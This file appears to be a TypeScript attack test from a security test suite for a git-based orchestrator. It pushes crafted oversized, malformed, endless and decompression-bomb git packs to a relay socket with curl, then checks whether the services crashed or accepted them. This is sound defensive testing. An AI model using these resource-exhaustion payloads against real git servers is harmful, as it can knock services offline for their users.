import type { Attack } from '../frame/attack.ts'
import { docker } from '../frame/program.ts'

const attack: Attack = {
  tries: 'pushes a pack of 600 MB, one that says it has four billion objects, one that never ends, and a small one that unpacks to 400 MB',
  success: 'it is imported, or the orchestrator stops answering or is killed for its memory',
  run: async (t) => {
    const evil = await t.agent('crafter')
    const started = (await docker(['inspect', '--format', '{{.State.StartedAt}} {{.RestartCount}}', t.service('orchestrator'), t.service('relay')])).out
    const send = (body: string) => `(${body}) | timeout 60 curl -sS --unix-socket /run/orchestra/relay.sock -X POST -T - http://relay/push/pack -H 'x-kind: commits' -H "x-sha: $sha" -H "x-head: $sha" -w ' %{http_code}\\n' 2>&1 | tail -c 400`
    const said = await evil.try(`sha=$(git rev-parse HEAD | tr 0-9 1-90); header() { printf 'PACK\\0\\0\\0\\2\\377\\377\\377\\377'; }
      ${send('header; head -c 600000000 /dev/zero')}
      ${send('header; head -c 1000 /dev/urandom')}
      ${send('header; printf "\\\\277\\\\377\\\\377\\\\377\\\\377\\\\177"; sleep 2; head -c 5000000 /dev/urandom')}`, { deadlineMs: 240_000 })
    const bomb = await evil.try(`set -e; b=$(head -c 400000000 /dev/zero | git hash-object -w --stdin); tree=$(printf '100644 blob %s\\tbomb\\n' $b | git mktree); c=$(git commit-tree -m bomb -p refs/orchestra/base $tree); git update-ref refs/heads/bomb $c
      printf '%s\\n^%s\\n' $c $(git rev-parse refs/orchestra/base) | git pack-objects --revs --stdout -q >/tmp/bomb.pack; ls -l /tmp/bomb.pack | cut -d' ' -f5
      curl -sS --unix-socket /run/orchestra/relay.sock -X POST http://relay/push/pack -H 'x-kind: commits' -H "x-sha: $c" -H "x-head: $c" --data-binary @/tmp/bomb.pack -w ' %{http_code}' -m 200`, { deadlineMs: 240_000 })
    const page = await t.person.get(`/api/sessions/${evil.session}/diff`)
    const health = await t.person.get('/api/health')
    const now = (await docker(['inspect', '--format', '{{.State.StartedAt}} {{.RestartCount}}', t.service('orchestrator'), t.service('relay')])).out
    if (now !== started || !health.ok) return { through: `a service was restarted: ${started} → ${now}, health ${health.status}` }
    if (said.out.includes('"accepted":true')) return { through: `an oversized pack was imported: ${said.out}` }
    if (bomb.out.includes('"accepted":true')) return { through: `a pack that unpacks to 400 MB was imported (${bomb.out.trim()}); the diff answered ${page.status}` }
    return { held: `answers ${said.out.match(/ \d{3}$/gm)?.join() ?? said.out.slice(0, 200)}; the small one: ${bomb.out.trim().slice(-200)}${bomb.err.slice(-200)}` }
  },
}
export default attack
